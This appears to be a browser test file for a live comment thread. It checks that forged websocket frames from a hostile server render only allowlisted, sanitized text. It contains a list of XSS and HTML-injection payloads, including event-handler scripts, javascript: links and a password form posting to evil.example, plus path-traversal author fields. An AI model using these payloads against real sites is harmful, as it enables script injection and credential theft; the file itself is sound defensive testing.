"""Whoever can send frames to a reader can show texts, and nothing but texts: the page has a list of its own."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from websockets.asyncio.server import ServerConnection, serve

from tests.journeys.firefox import started
from tests.processes import Server, eventually

HOSTILE = [
    '<meta http-equiv="refresh" content="0;url=/login">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/" id="f"><input name="password" autofocus><button>Log in</button></form>',
    "<style>body { display: none }</style><link rel=stylesheet href=/x.css>",
    '<a href="javascript:hacked()">x</a><a href="data:text/html,x">x</a><a href="//evil.example">x</a>',
    '<a href=" https://evil.example"> x</a><a href="/logout" class="edit">x</a><a href="/u/../login">x</a>',
    "<img src=x onerror=hacked()><svg onload=hacked()><a xlink:href='javascript:hacked()'>x</a></svg>",
    '<iframe srcdoc="<script>parent.hacked()</script>"></iframe><object data="/login"></object><embed src="/login">',
    '<p style="position: fixed; inset: 0" class="pill" id="composer" onclick="hacked()" is="live-thread">x</p>',
    "<live-thread key=x></live-thread><template><p>x</p></template><math><mtext><p>x</p></mtext></math>",
    "<script>hacked()</script><noscript><p title='</noscript><img src=x onerror=hacked()>'>",
    '<details open ontoggle="hacked()">x</details><video src=/x><source onerror="hacked()"></video>',
    '<span class="spoiler status" tabindex="9">x</span><ol start="1e9" type="A"><li value="9">x</li></ol>',
    "<table><tr><td>x</td></tr></table><h1>x</h1><dialog open>x</dialog><textarea>x</textarea>",
]
GOOD = (
    '<p>Good <em>words</em>, <a class="mention" href="/u/Bo%20B">@Bo B</a><br> '
    '<a href="https://example.org/?a&amp;b" title="t" rel="nofollow ugc noopener noreferrer">there</a></p>'
    '<blockquote><ol start="3"><li>x</li></ol></blockquote><pre><code>&lt;b&gt;</code></pre>'
    '<p><span class="spoiler" tabindex="0">s</span></p>'
)
NOT_ALLOWED = """(() => {
  const tags = ["A", "BLOCKQUOTE", "BR", "CODE", "DEL", "EM", "HR", "LI", "OL", "P", "PRE", "STRONG", "UL", "SPAN"];
  const attributes = { A: ["href", "title", "class", "rel"], OL: ["start"], SPAN: ["class", "tabindex"] };
  return [...document.querySelectorAll(".comments .body *")].flatMap((one) => [
    ...(tags.includes(one.tagName) ? [] : [one.tagName]),
    ...[...one.attributes]
      .filter(({ name }) => !attributes[one.tagName]?.includes(name))
      .map(({ name }) => `${one.tagName} ${name}`),
    ...(one.matches("a:not([href]), a[href^='https://example.org/'], a.mention") ? [] :
      one.matches("a") ? [one.getAttribute("href")] : []),
    ...(one.className && !["spoiler", "mention"].includes(one.className) ? [one.className] : []),
  ]);
})()"""
# What is painted between two frames makes later ones wait behind the pill.
SHOWN = """(document.querySelector(".pill:not([hidden])")?.click(),
  document.querySelectorAll(".comments li[data-id]").length)"""
AUTHORS = """[...document.querySelectorAll(".comments li[data-id]")].map((item) => [
  [...item.querySelectorAll("header img")].map((one) => one.getAttribute("src")).join(),
  item.querySelector(".badge").textContent,
  item.querySelector(".name").getAttribute("href")])"""
LAST = "[...document.querySelectorAll('.comments .body')].at(-1).innerHTML"
UNTOUCHED = "[location.pathname, typeof hacked, document.baseURI === location.href, document.forms.f === undefined]"


def forged(html: str, id_: int, **more: Any) -> dict[str, Any]:
    author = {
        "name": "../login",
        "avatar": "https://evil.example/a.png",
        "badge": "Owner <b>",
        "picture": "../../login",
    }
    return {
        "id": id_, "version": id_, "parent": None, "revision": 1, "state": "visible", "author": author, "html": html,
        "created": "2026-01-01T00:00:00.000Z", "placed": f"{id_}", "arrived": id_, "edited": None, "score": 0,
        "replies": 0,
    } | more  # fmt: skip


@asynccontextmanager
async def hostile_server() -> AsyncIterator[str]:
    """What a reader hears from somebody who speaks for the server; yields its address."""

    async def speak(socket: ServerConnection) -> None:
        async for frame in socket:
            join = json.loads(frame)
            if join["type"] != "join":
                continue
            after, epoch, key = join.get("after", 0), join.get("epoch", ""), join["thread"]
            about = {"thread": key, "epoch": epoch}
            info = {"title": "<b>", "url": "javascript:x", "summary": "", "author": None, "locked": False}
            await socket.send(json.dumps({"type": "joined", **about, "version": after, "readers": 1}))
            for number, html in enumerate([*HOSTILE, GOOD], start=1):
                one = {"type": "changes", **about, "after": after, "version": after + 1}
                told = {"info": info | {"comments": number}}
                # Neither of these is an id.
                for id_ in (f"{number}/../../login", 2**53):
                    comments = [forged("<p>x</p>", number) | {"id": id_}]
                    await socket.send(json.dumps(one | told | {"comments": comments}))
                await socket.send(json.dumps(one | told | {"comments": [forged(html, 1000 + number)]}))
                after += 1

    async with serve(speak, "127.0.0.1", 0) as server:
        yield f"ws://127.0.0.1:{server.sockets[0].getsockname()[1]}/live"


@pytest.fixture
async def page(tmp_path: Path) -> AsyncIterator[str]:
    """The address of a thread whose readers are sent to the hostile server."""
    async with hostile_server() as live_url:
        with Server(tmp_path, LIVETHREAD_LIVE_URL=live_url) as app:
            yield f"{app.origin}/t/forged"


def check(untouched: list[Any], found: list[str], authors: list[list[str]], last: str) -> None:
    assert untouched == ["/t/forged", "undefined", True, True]
    assert found == []
    assert authors == [["/avatar/anonymous.svg", "", "/u/..%2Flogin"]] * (len(HOSTILE) + 1)
    assert last == GOOD


async def test_a_forged_frame_shows_texts_alone_in_chromium(page: str, visit: Any) -> None:
    reader = await visit()
    await reader.page.goto(page)
    await eventually(lambda: reader.page.evaluate(f"{SHOWN} === {len(HOSTILE) + 1}"))
    check(*[await reader.page.evaluate(what) for what in (UNTOUCHED, NOT_ALLOWED, AUTHORS, LAST)])
    # Of what is read and not taken the policy tells as well.
    reader.wrong[:] = [what for what in reader.wrong if "has been blocked" not in what]


async def test_a_forged_frame_shows_texts_alone_in_firefox(page: str, tmp_path: Path) -> None:
    (tmp_path / "firefox").mkdir()
    async with started(tmp_path / "firefox") as firefox:
        reader = await firefox.tab()
        await reader.go(page)
        await reader.until(f"{SHOWN} === {len(HOSTILE) + 1}")
        check(*[await reader.look(what) for what in (UNTOUCHED, NOT_ALLOWED, AUTHORS, LAST)])
        assert firefox.errors == []
